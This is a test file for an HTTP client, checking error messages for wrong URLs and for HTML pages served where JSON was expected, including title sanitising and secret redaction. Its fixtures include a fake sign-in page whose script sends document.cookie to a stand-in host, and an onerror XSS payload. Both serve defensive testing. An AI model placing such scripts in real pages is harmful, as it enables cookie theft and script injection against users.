import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { HttpClient } from '../../src/http/client.js'
import { HttpError } from '../../src/http/errors.js'
import type { Logger } from '../../src/util/log.js'
import { registerSecret } from '../../src/util/secrets.js'
import { closedPort } from '../sim/elsewhere.js'
import { SimServer } from '../sim/server.js'
import { rejection } from '../rejection.js'

function recording(): Logger & { lines: string[] } {
  const lines: string[] = []
  return { lines, info: (m) => lines.push(m), warn: (m) => lines.push(m), debug: () => {} }
}

describe('HttpClient: a wrong URL is named as such, after at most one retry', () => {
  const client = (baseUrl: string, log = recording()) =>
    new HttpClient({ system: 'Example', baseUrl, backoffMs: 5, log, setting: 'url' })

  it('connection refused', async () => {
    const url = await closedPort()
    const log = recording()
    const example = client(url, log)
    const error = await rejection<HttpError>(example.get('/api/items'))
    expect(error).toBeInstanceOf(HttpError)
    expect(error.message).toBe(`Example: cannot reach ${url} (connection refused): check \`url\``)
    expect(example.stats).toMatchObject({ requests: 2, retries: 1 })
    expect(log.lines).toHaveLength(1)
    expect(log.lines[0]).toMatch(/^Example: connection refused on GET \/api\/items; retry 1\/1 in \d+\.\d s$/)
  })

  it('a host name that does not resolve', async () => {
    const example = client('http://permission-snapshot.invalid')
    const error = await rejection<HttpError>(example.get('/api/items'))
    expect(error.message).toMatch(
      /^Example: cannot reach http:\/\/permission-snapshot\.invalid \((host not found|DNS lookup failed)\): check `url`$/
    )
    expect(example.stats.requests).toBe(2)
  })

  it('TLS that does not work: https:// to a plain-HTTP port', async () => {
    const plain = new SimServer()
    const url = (await plain.start()).replace('http:', 'https:')
    try {
      const example = client(url)
      const error = await rejection<HttpError>(example.get('/api/items'))
      expect(error.message).toBe(`Example: cannot reach ${url} (TLS handshake failed): check \`url\``)
      expect(example.stats.requests).toBe(2)
    } finally {
      await plain.stop()
    }
  })
})

describe('HttpClient: an HTML page where JSON was expected', () => {
  let sim: SimServer
  const SIGN_IN =
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>\n  Sign in to your account &amp; continue\n</title>' +
    '<script>window.location = "https://sso.example.com/?next=" + document.cookie</script></head>' +
    '<body><form action="https://sso.example.com/login"><input name="password"></form></body></html>'
  const html = (status: number, body = SIGN_IN) => ({
    status,
    text: body,
    headers: { 'content-type': 'text/html; charset=utf-8' }
  })

  beforeEach(async () => {
    sim = new SimServer()
    sim.route('GET', '/api/items', () => ({ json: [] }))
    await sim.start()
  })
  afterEach(() => sim.stop())

  const example = (options: Partial<ConstructorParameters<typeof HttpClient>[0]> = {}) =>
    new HttpClient({ system: 'Example', baseUrl: `${sim.url}/api`, backoffMs: 1, ...options })
  const noMarkup = (text: string) => expect(text).not.toMatch(/[<>]|script|cookie|password|form/i)

  it('a 200 sign-in page is not retried; the message quotes its title and names the setting', async () => {
    sim.inject({ path: '/api/items', ...html(200), times: Infinity })
    const client = example({ setting: 'token-url' })
    const error = await rejection<HttpError>(client.get('items'))
    expect(error.message).toBe(
      'Example: GET /api/items answered 200 with an HTML page titled "Sign in to your account & continue": check `token-url` (a proxy, a sign-in page or a wrong path answered instead of the API)'
    )
    noMarkup(error.message)
    expect(client.stats.requests).toBe(1)
  })

  it('an error status with a page keeps only the title, and blames the URL before the credentials', async () => {
    const tokenHint = () => 'Check the API key.'
    sim.inject({ path: '/api/items', ...html(401) })
    const refused = await rejection<HttpError>(example({ hint: tokenHint }).get('items'))
    expect(refused.message).toBe(
      'Example: GET /api/items answered 401 with an HTML page titled "Sign in to your account & continue". That is a web page, not the API: check `url`.'
    )
    sim.inject({
      path: '/api/items',
      ...html(404, '<html><body><h2>404 - File or directory not found.</h2></body></html>')
    })
    const missing = await rejection<HttpError>(example().get('items'))
    expect(missing.message).toBe(
      'Example: GET /api/items answered 404 with an HTML page without a title. That is a web page, not the API: check `url`.'
    )
    // A gateway's 5xx page is still retried (the API behind it may come back), and still never quoted.
    sim.inject({
      path: '/api/items',
      ...html(502, '<html><title>502 Bad Gateway</title><body><hr>nginx</body></html>'),
      times: Infinity
    })
    const client = example({ retries: 2 })
    const gateway = await rejection<HttpError>(client.get('items'))
    expect(gateway.message).toBe('Example: GET /api/items answered 502 with an HTML page titled "502 Bad Gateway"')
    expect(client.stats.requests).toBe(3)
    for (const error of [refused, missing, gateway]) noMarkup(error.message)
  })

  it('a title is cleaned, capped and redacted; a page without a content type is recognised by its markup', async () => {
    registerSecret('tok-9f8e7d6c5b4a')
    const title = `Welcome tok-9f8e7d6c5b4a <b>back</b> &lt;img src=x onerror=alert(1)&gt; ${'very long '.repeat(20)}`
    sim.inject({ path: '/api/items', status: 200, text: `<html><head><title>${title}</title></head></html>` })
    const error = await rejection<HttpError>(example().get('items'))
    const quoted = /titled "([^"]*)"/.exec(error.message)![1]!
    expect(quoted).toMatch(/^Welcome \*\*\* back img src=x onerror=alert\(1\) very long very long/)
    expect(quoted.length).toBeLessThanOrEqual(80)
    expect(quoted.endsWith('…')).toBe(true)
    noMarkup(error.message)
  })

  it('another non-JSON answer to a 2xx is named by its type, not retried', async () => {
    sim.inject({ path: '/api/items', status: 200, text: 'OK', headers: { 'content-type': 'text/plain' } })
    const client = example()
    const error = await rejection<HttpError>(client.get('items'))
    expect(error.message).toBe(
      'Example: GET /api/items answered 200 with text/plain instead of JSON: check `url` (a proxy, a sign-in page or a wrong path answered instead of the API)'
    )
    expect(client.stats.requests).toBe(1)
  })
})
